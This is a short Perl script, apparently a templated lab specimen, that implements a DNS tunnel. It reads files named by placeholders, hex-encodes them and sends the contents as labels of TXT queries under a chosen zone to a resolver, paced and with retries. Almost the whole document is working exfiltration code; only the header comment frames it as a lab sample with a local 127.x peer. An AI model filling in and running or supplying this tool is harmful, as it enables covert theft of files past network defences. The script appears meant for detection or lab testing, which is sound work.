#!/usr/bin/perl
# kcsi lab specimen: DNS tunnel over UDP. Reads the files @@FILES@@, hex-encodes them and
# sends them as the labels of TXT queries under @@ZONE@@ to the resolver @@RESOLVER@@
# (a 127.x peer): <60 hex>.<60 hex>.<session>.<seq>.<zone>, one query every @@PACE@@ s,
# waiting up to 1 s for each answer. The UDP socket is connected to the resolver.
use strict;
use warnings;
use Socket;
use Time::HiRes qw(sleep);

my ($rh, $rp) = split /:/, '@@RESOLVER@@';
my $zone = '@@ZONE@@';
my $sid  = '@@SID@@';
my $data = '';
for my $f (qw(@@FILES@@)) {
    open(my $fh, '<:raw', $f) or next;
    local $/;
    $data .= <$fh>;
    close $fh;
}
my $hex = unpack('H*', $data);
undef $data;
socket(my $s, PF_INET, SOCK_DGRAM, 0) or die "socket: $!\n";
connect($s, sockaddr_in($rp, inet_aton($rh))) or die "connect: $!\n";
my ($seq, $id) = (0, int(rand(65536)));
while (length $hex) {
    my @labels = (substr($hex, 0, 60, ''));
    push @labels, substr($hex, 0, 60, '') if length $hex;
    my $name = join '.', @labels, $sid, $seq, $zone;
    my $q = pack('n n n n n n', $id++ & 0xffff, 0x0100, 1, 0, 0, 0)
          . join('', map { chr(length $_) . $_ } split /\./, $name) . "\0" . pack('n n', 16, 1);
    for my $try (1, 2) {
        send($s, $q, 0);
        my $rin = '';
        vec($rin, fileno($s), 1) = 1;
        if (select(my $rout = $rin, undef, undef, 1.0)) {
            recv($s, my $ans, 512, 0);
            last;
        }
    }
    $seq++;
    sleep(@@PACE@@);
}
